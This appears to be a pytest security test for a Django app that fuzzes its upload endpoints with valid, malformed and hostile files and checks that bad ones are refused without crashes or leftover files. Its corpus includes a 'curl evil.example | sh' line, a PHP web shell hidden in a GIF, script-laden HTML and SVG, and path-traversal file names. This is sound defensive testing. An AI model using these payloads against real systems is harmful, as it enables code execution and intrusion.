@@ -1,0 +1,389 @@
+"""Upload fuzzing: random and malformed files never crash a view nor leave anything on disk.
+
+Every endpoint that takes a file (the attachment API and page, the agreement scan by API and
+page, the community form and API, the IGA region evidence) receives the same corpus: valid
+files of each allowed type, seeded random bytes, truncated headers, a PDF header followed by
+garbage, a zip that is not an Office file, an Office file with a macro, markup and scripts
+named .pdf/.png, a file over the size limit, an empty file, and hostile file names.
+
+For each: never a 5xx; content of a type the endpoint accepts is stored once, under a random
+name, byte for byte; anything else is refused with a message and leaves MEDIA_ROOT as it was.
+MEDIA_ROOT is a fresh directory per test, so files written by other tests running in parallel
+cannot blur the before/after comparison. Each request runs in a rolled-back savepoint, so one
+accepted upload (a signature, a new community entry) does not change what the next case meets.
+"""
+
+import dataclasses
+import io
+import random
+import re
+import zipfile
+from pathlib import Path
+
+import pytest
+from django.contrib.messages import constants, get_messages
+from django.core.cache import cache
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.db import transaction
+from django.forms import BaseForm
+from django.test import Client
+from rest_framework.authtoken.models import Token
+
+from iga.models import RegionIndicator
+from innovations.enums import Status
+from innovations.models import Attachment
+from innovations.uploads import DOCX, JPEG, PDF, PNG, XLSX
+from tests.innovations.factories import (
+    JPEG_BYTES,
+    PDF_BYTES,
+    PNG_BYTES,
+    InnovationFactory,
+    design_text,
+    office_bytes,
+)
+
+from .urlwalk import build_world
+
+pytestmark = [pytest.mark.security, pytest.mark.django_db]
+
+# Small, so that "over the limit" costs 64 KB per request instead of 10 MB; same code path.
+LIMIT = 64 * 1024
+SEED = 20260009
+ALL_TYPES = {PDF, JPEG, PNG, XLSX, DOCX}
+RANDOM_NAME = re.compile(r"^[0-9a-f]{32}(\.pdf)?$")
+
+
+@dataclasses.dataclass(frozen=True)
+class Upload:
+    label: str
+    name: str
+    content: bytes
+    kind: str | None = None  # the allowed type the content truly is; None: must be refused
+    strict: bool = True  # False: an allowed file may still be refused (e.g. a 1,000-char name)
+
+
+def _zip(parts):
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in parts.items():
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+def corpus():
+    rng = random.Random(SEED)
+    docx = office_bytes("word")
+    uploads = [
+        Upload("valid pdf", "laporan.pdf", PDF_BYTES, PDF),
+        Upload("valid png", "foto.png", PNG_BYTES, PNG),
+        Upload("valid jpeg", "foto.jpg", JPEG_BYTES, JPEG),
+        Upload("valid docx", "proposal.docx", docx, DOCX),
+        Upload("valid xlsx", "anggaran.xlsx", office_bytes("xl"), XLSX),
+        # A DOCX whose one part inflates to 8 MB: harmless, nothing ever decompresses it.
+        Upload(
+            "docx declaring 8 MB inside",
+            "besar.docx",
+            _zip(
+                {
+                    "[Content_Types].xml": "<Types/>",
+                    "word/document.xml": "<w:document/>",
+                    "word/media/blank.bin": b"\0" * (8 * 1024 * 1024),
+                }
+            ),
+            DOCX,
+        ),
+        Upload("empty", "kosong.pdf", b""),
+        Upload("over the limit, sparse", "besar.pdf", b"%PDF-1.4\n" + b"\0" * LIMIT),
+        Upload("pdf magic only", "potong.pdf", b"%PDF-"),
+        Upload("pdf header line only", "potong.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"),
+        Upload("pdf truncated before %%EOF", "potong.pdf", PDF_BYTES[:-7]),
+        Upload("pdf header then garbage", "laporan.pdf", b"%PDF-1.4\n" + rng.randbytes(2000)),
+        Upload("png signature only", "foto.png", PNG_BYTES[:8]),
+        Upload("png truncated after IHDR", "foto.png", PNG_BYTES[:33]),
+        Upload("png header then garbage", "foto.png", PNG_BYTES[:33] + rng.randbytes(500)),
+        Upload("jpeg SOI only", "foto.jpg", JPEG_BYTES[:3]),
+        Upload("jpeg truncated", "foto.jpg", JPEG_BYTES[:12]),
+        Upload("jpeg header then garbage", "foto.jpg", JPEG_BYTES[:12] + rng.randbytes(500)),
+        Upload("zip, not office", "arsip.docx", office_bytes("zip")),
+        Upload("zip truncated", "proposal.docx", docx[: len(docx) // 2]),
+        Upload(
+            "docm: office with a macro",
+            "proposal.docx",
+            _zip(
+                {
+                    "[Content_Types].xml": "<Types/>",
+                    "word/document.xml": "<w:document/>",
+                    "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + rng.randbytes(200),
+                }
+            ),
+        ),
+        Upload(
+            "html named .pdf",
+            "laporan.pdf",
+            b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
+        ),
+        Upload(
+            "svg named .png",
+            "foto.png",
+            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script>'
+            b"</svg>",
+        ),
+        Upload("shell script named .jpg", "foto.jpg", b"#!/bin/sh\ncurl evil.example | sh\n"),
+        Upload("gif with php named .png", "foto.png", b"GIF89a<?php system($_GET['c']); ?>"),
+        Upload("windows executable named .pdf", "laporan.pdf", b"MZ\x90\x00" + rng.randbytes(300)),
+    ]
+    for size in (1, 7, 64, 1024, 9000):
+        uploads.append(Upload(f"random {size} bytes", "acak.pdf", rng.randbytes(size)))
+    hostile_names = {
+        "path traversal": "../../etc/passwd.pdf",
+        "windows path": "..\\..\\Windows\\win.ini.pdf",
+        "absolute path": "/var/www/index.pdf",
+        "unicode": "laporan-ñ-日本語-😀.pdf",
+        "right-to-left override": "laporan\u202efdp.exe",
+        "NUL byte": "laporan\x00.php.pdf",
+        "hidden file": ".htaccess.pdf",
+        "device name": "CON.pdf",
+    }
+    for label, name in hostile_names.items():
+        uploads.append(Upload(f"name: {label}", name, PDF_BYTES, PDF))
+        uploads.append(Upload(f"name: {label}, html inside", name, b"<html><script>1</script>"))
+    uploads.append(Upload("name: 1,000 characters", "a" * 996 + ".pdf", PDF_BYTES, PDF, False))
+    return uploads
+
+
+CORPUS = corpus()
+
+
+def file_of(upload):
+    return SimpleUploadedFile(upload.name, upload.content, content_type="application/pdf")
+
+
+def token_client(user):
+    token, _ = Token.objects.get_or_create(user=user)
+    return Client(HTTP_AUTHORIZATION=f"Token {token.key}", HTTP_ACCEPT_LANGUAGE="en")
+
+
+def session_client(user=None):
+    client = Client(HTTP_ACCEPT_LANGUAGE="en")
+    if user is not None:
+        client.force_login(user)
+    return client
+
+
+def community_fields():
+    return {
+        "title": "Sasirangan Eco Print Desa Belangian",
+        "summary": "Kain sasirangan dengan pewarna daun dan kulit kayu setempat.",
+        "problem": "Pewarna sintetis mencemari sungai desa.",
+        "design": design_text(310),
+        "benefits": "Sungai lebih bersih dan penghasilan pengrajin naik.",
+        "village": "Desa Belangian, Aranio",
+        "name": "Kelompok Pengrajin Belangian",
+        "email": "pengrajin@warga.example",
+        "phone": "081355512345",
+        "website": "",
+    }
+
+
+def api_message(response):
+    """The error texts of a JSON answer, wherever they sit."""
+
+    def texts(value):
+        if isinstance(value, str):
+            return [value] if value.strip() else []
+        if isinstance(value, dict):
+            return [t for v in value.values() for t in texts(v)]
+        if isinstance(value, list):
+            return [t for v in value for t in texts(v)]
+        return []
+
+    return texts(response.json())
+
+
+def page_message(response):
+    """Form errors rendered on the page, or error messages queued for the next page."""
+    found = []
+    for context in response.context or []:
+        for value in context.flatten().values():
+            forms = value.values() if isinstance(value, dict) else [value]
+            found += [str(f.errors) for f in forms if isinstance(f, BaseForm) and f.errors]
+    found += [m.message for m in get_messages(response.wsgi_request) if m.level == constants.ERROR]
+    return found
+
+
+def queued(response, level):
+    return [m for m in get_messages(response.wsgi_request) if m.level == level]
+
+
+@dataclasses.dataclass(frozen=True)
+class Endpoint:
+    """How to send a file somewhere, and how that endpoint says "stored" and "refused"."""
+
+    name: str
+    accepts: frozenset
+    send: object  # (world, upload) -> response
+    stored: object  # response -> bool
+    refused: object  # response -> list of messages (empty: not a refusal)
+
+
+def _api_refused(*statuses):
+    return lambda r: api_message(r) if r.status_code in statuses else []
+
+
+def _page_refused(status):
+    return lambda r: page_message(r) if r.status_code == status else []
+
+
+ENDPOINTS = [
+    Endpoint(
+        "attachments API",
+        frozenset(ALL_TYPES),
+        lambda w, u: token_client(w.users["operator"]).post(
+            f"/api/v1/innovations/{w.draft.pk}/attachments/", {"file": file_of(u), "kind": "other"}
+        ),
+        lambda r: r.status_code == 201,
+        _api_refused(400, 413),
+    ),
+    Endpoint(
+        "attachments page",
+        frozenset(ALL_TYPES),
+        lambda w, u: session_client(w.users["operator"]).post(
+            f"/innovations/{w.draft.pk}/attachments/", {"file": file_of(u), "kind": "other"}
+        ),
+        lambda r: r.status_code == 302 and not queued(r, constants.ERROR),
+        _page_refused(400),
+    ),
+    Endpoint(
+        "agreement scan API",
+        frozenset({PDF}),
+        lambda w, u: token_client(w.users["head"]).post(
+            f"/api/v1/agreements/{w.agreement.pk}/sign/", {"scan": file_of(u)}
+        ),
+        lambda r: r.status_code == 200 and r.json()["has_scan"],
+        _api_refused(400, 413),
+    ),
+    Endpoint(
+        "agreement scan page",
+        frozenset({PDF}),
+        lambda w, u: session_client(w.users["head"]).post(
+            f"/agreements/{w.agreement.pk}/",
+            {
+                "action": "sign",
+                "sign-signatory_name": w.agreement.signatory_name,
+                "sign-signatory_nip": w.agreement.signatory_nip,
+                "sign-signatory_title": w.agreement.signatory_title,
+                "sign-signed_on": w.cycle.submission_opens.isoformat(),
+                "sign-scan": file_of(u),
+            },
+        ),
+        lambda r: r.status_code == 302 and not queued(r, constants.ERROR),
+        _page_refused(400),
+    ),
+    Endpoint(
+        "community API",
+        frozenset(ALL_TYPES),
+        lambda w, u: Client(HTTP_ACCEPT_LANGUAGE="en").post(
+            "/api/v1/public/submissions/", {**community_fields(), "attachments": [file_of(u)]}
+        ),
+        lambda r: r.status_code == 202,
+        _api_refused(400, 413),
+    ),
+    Endpoint(
+        "community page",
+        frozenset(ALL_TYPES),
+        lambda w, u: session_client().post(
+            "/katalog/submit/", {**community_fields(), "attachments": [file_of(u)]}
+        ),
+        lambda r: r.status_code == 302 and r["Location"].endswith("/katalog/submit/sent/"),
+        # The public form re-renders itself with its errors (200), as its own tests pin down.
+        _page_refused(200),
+    ),
+    Endpoint(
+        "IGA region evidence page",
+        frozenset(ALL_TYPES),
+        lambda w, u: session_client(w.users["admin"]).post(
+            f"/iga/{w.cycle.year}/region-indicators/",
+            {
+                "number": 2,
+                "name": "Indeks",
+                "value": "50",
+                "weight": "1",
+                "evidence_file": file_of(u),
+            },
+        ),
+        # The page always redirects; the queued message says which way it went.
+        lambda r: r.status_code == 302 and bool(queued(r, constants.SUCCESS)),
+        lambda r: [m.message for m in queued(r, constants.ERROR)] if r.status_code == 302 else [],
+    ),
+]
+
+
+def files_under(root):
+    return {path.relative_to(root) for path in Path(root).rglob("*") if path.is_file()}
+
+
+def unsafe_recorded_names():
+    """Original names as recorded for display: never a path, never a control character."""
+    names = list(Attachment.objects.values_list("filename", flat=True))
+    names += RegionIndicator.objects.values_list("evidence_filename", flat=True)
+    return [n for n in names if "/" in n or "\\" in n or any(ord(c) < 32 for c in n)]
+
+
+@pytest.fixture
+def media(settings, tmp_path):
+    settings.MEDIA_ROOT = tmp_path
+    settings.STORAGES = {
+        **settings.STORAGES,
+        "default": {
+            **settings.STORAGES["default"],
+            "OPTIONS": {**settings.STORAGES["default"].get("OPTIONS", {}), "location": tmp_path},
+        },
+    }
+    settings.ATTACHMENT_MAX_BYTES = LIMIT
+    return tmp_path
+
+
+@pytest.fixture
+def world(db):
+    world = build_world()
+    world.draft = InnovationFactory(unit=world.unit, cycle=world.cycle, status=Status.DRAFT)
+    return world
+
+
+@pytest.mark.parametrize("endpoint", ENDPOINTS, ids=lambda endpoint: endpoint.name)
+def test_upload_endpoint_stores_only_what_it_accepts(endpoint, world, media):
+    wrong = []
+    for upload in CORPUS:
+        cache.clear()  # the community rate limit counts accepted entries per address
+        before = files_under(media)
+        with transaction.atomic():
+            response = endpoint.send(world, upload)
+            unsafe = unsafe_recorded_names()
+            transaction.set_rollback(True)
+        new = files_under(media) - before
+        outcome = f"{upload.label!r} ({upload.name!r}): {response.status_code}"
+        if response.status_code >= 500:
+            wrong.append(f"{outcome}: server error")
+            continue
+        allowed = upload.kind in endpoint.accepts
+        if endpoint.stored(response):
+            if not allowed:
+                wrong.append(f"{outcome}: stored, though not an accepted type")
+            elif len(new) != 1:
+                wrong.append(f"{outcome}: stored, files written: {sorted(map(str, new))}")
+            else:
+                (path,) = new
+                if not RANDOM_NAME.match(path.name):
+                    wrong.append(f"{outcome}: stored under a name that is not random: {path}")
+                if (media / path).read_bytes() != upload.content:
+                    wrong.append(f"{outcome}: the stored bytes differ from the upload")
+            if unsafe:
+                wrong.append(f"{outcome}: recorded names {unsafe}")
+        elif endpoint.refused(response):
+            if new:
+                wrong.append(f"{outcome}: refused, but left {sorted(map(str, new))}")
+            if allowed and upload.strict:
+                wrong.append(f"{outcome}: a valid file was refused: {endpoint.refused(response)}")
+        else:
+            wrong.append(f"{outcome}: neither stored nor refused with a message")
+    assert not wrong, f"{endpoint.name}:\n" + "\n".join(wrong)
